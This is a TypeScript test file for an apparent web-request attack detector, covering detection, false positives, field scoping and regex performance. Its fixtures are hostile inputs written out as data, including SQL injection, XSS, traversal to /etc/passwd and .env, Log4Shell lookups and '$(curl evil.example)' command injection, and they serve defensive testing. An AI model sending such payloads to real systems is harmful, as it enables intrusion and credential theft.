import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { PROBE_RULES } from '../../src/gate/probe-rules.ts';
import { Probes } from '../../src/gate/probes.ts';
import { Fields } from '../../src/http/fields.ts';

const probes = new Probes({ block: true, threshold: 5, exclude: [], fields: ['user-agent', 'referer'] });
const target = (text: string) => probes.find({ target: text, fields: Fields.empty });

describe('probes are found in the target', () => {
  it.each([
    ['/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', 'sql-union'],
    ['/items?id=1+union/**/all/**/select+1,2', 'sql-union'],
    ["/items?id=1'+or+'1'='1", 'sql-tautology'],
    ['/items?id=1%2527%2520or%2520%25271%2527%253D%25271', 'sql-tautology'],
    ['/items?id=1;drop+table+users', 'sql-stacked'],
    ['/items?id=sleep(5)', 'sql-time'],
    ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss-script'],
    ['/search?q=%253Cscript%253E', 'xss-script'],
    ['/search?q=<img+src=x+onerror=alert(1)>', 'xss-handler'],
    ['/download?file=../../../../etc/passwd', 'path-traversal'],
    ['/download?file=..%2f..%2fsecret', 'path-traversal'],
    ['/download?file=..%255c..%255csecret', 'path-traversal'],
    ['/.git/config', 'path-secret'],
    ['/.env', 'path-secret'],
    ['/read?f=php://filter/convert.base64-encode/resource=index', 'path-wrapper'],
    ['/a%00.png', 'null-byte'],
    ['/?x=$' + '{jndi:ldap://evil.example/a}', 'log4shell'],
    ['/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D', 'log4shell'],
    ['/cgi?host=127.0.0.1;cat%20/etc/passwd', 'shell-command'],
    ['/cgi?host=$(curl%20evil.example)', 'shell-command'],
    ['/cgi?host=1%7Cid', 'shell-command'],
  ])('%s', (text, id) => {
    expect(target(text)?.ids).toContain(id);
  });
});

describe('what people send is let through', () => {
  it.each([
    '/',
    '/articles/2026/11/how-to-select-a-union-suit?page=2&sort=asc',
    '/search?q=rock+%27n%27+roll',
    '/search?q=O%27Reilly+and+sons',
    '/search?q=select+the+best+from+all',
    '/search?q=tom+%26+jerry',
    '/search?q=a+%3D+b+or+c',
    '/assets/app.3f9a.js?v=1.2.3',
    '/wiki/C%2B%2B_(language)',
    '/a/b/../c',
    '/api/items?filter[price]=10..20&fields=id,name',
    '/api/items?where=%7B%22id%22%3A%7B%22%24gt%22%3A5%7D%7D',
    '/redirect?to=https://example.org/x?y=1%26z=2',
    '/mail?subject=Meeting%20at%205%3B%20bring%20cat%20food',
    '/price?currency=%24&amount=5',
    '/café?q=r%C3%A9sum%C3%A9',
    '/docs/script/description?order=by+name',
  ])('%s', (text) => {
    expect(target(text)).toBeUndefined();
  });

  it('a usual browser has usual fields', () => {
    const fields = Fields.from({
      'user-agent':
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36',
      referer: 'https://www.example.org/search?q=a+b&x=%27',
    });
    expect(probes.find({ target: '/', fields })).toBeUndefined();
  });
});

describe('what is looked at', () => {
  it('the fields that are named, and no others', () => {
    const probe = '() { :;}; /bin/bash -c id';
    expect(probes.find({ target: '/', fields: Fields.from({ 'user-agent': probe }) })?.ids).toContain(
      'shellshock',
    );
    expect(probes.find({ target: '/', fields: Fields.from({ 'x-other': probe }) })).toBeUndefined();
  });

  it('an excluded rule does not count', () => {
    const without = new Probes({ block: true, threshold: 5, exclude: ['null-byte'], fields: [] });
    expect(without.find({ target: '/a%00', fields: Fields.empty })).toBeUndefined();
  });

  it('scores add up to the threshold', () => {
    const strict = new Probes({ block: true, threshold: 2, exclude: [], fields: [] });
    const text = "/x?a=1'--";
    expect(target(text)).toBeUndefined();
    expect(strict.find({ target: text, fields: Fields.empty })).toEqual({ ids: ['sql-comment'], score: 2 });
  });
});

describe('no text is slow', () => {
  it.each(PROBE_RULES.map(({ id, pattern }) => [id, pattern.source] as const))(
    '%s repeats nothing without a small bound',
    (_, source) => {
      const bare = source.replace(/\\./g, '_').replace(/\[[^\]]*\]/g, '_');
      expect(bare).not.toMatch(/[*+]|\{\d+,\}/);
      for (const [, most] of bare.matchAll(/\{\d+,(\d+)\}/g)) expect(Number(most)).toBeLessThanOrEqual(60);
    },
  );

  it('ids are told apart', () => {
    expect(new Set(PROBE_RULES.map(({ id }) => id)).size).toBe(PROBE_RULES.length);
  });

  it('any text is answered without an error', () => {
    const fields = Fields.empty;
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
        probes.find({ target: text, fields });
      }),
      { numRuns: 200 },
    );
  });

  it.each(["'", '$' + '{', 'union ', '/*', 'select ', '<', "' or ", '%25', '../', ';cat ', ' or 1'])(
    'a long row of %j takes time in proportion to its length',
    (piece) => {
      const time = (length: number): number => {
        const text = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
        let best = Number.POSITIVE_INFINITY;
        for (let i = 0; i < 3; i++) {
          const from = process.threadCpuUsage().user;
          probes.find({ target: text, fields: Fields.empty });
          best = Math.min(best, process.threadCpuUsage().user - from);
        }
        return best;
      };
      time(4096);
      // Quadratic would be 64 times as long; the allowance is for a busy machine and for the clock's grain.
      expect(time(32_768)).toBeLessThan(24 * Math.max(time(4096), 1000));
    },
  );
});
